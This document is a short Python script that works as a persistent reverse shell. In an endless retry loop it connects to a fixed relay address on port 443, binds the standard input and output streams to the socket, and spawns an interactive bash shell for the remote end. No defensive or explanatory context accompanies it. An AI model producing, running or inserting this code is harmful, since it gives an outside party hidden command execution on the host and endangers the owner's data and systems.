import os, pty, socket, time

RELAY = ("192.0.2.10", 443)

while True:
    try:
        s = socket.socket()
        s.connect(RELAY)
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/bash")
    except Exception:
        time.sleep(60)
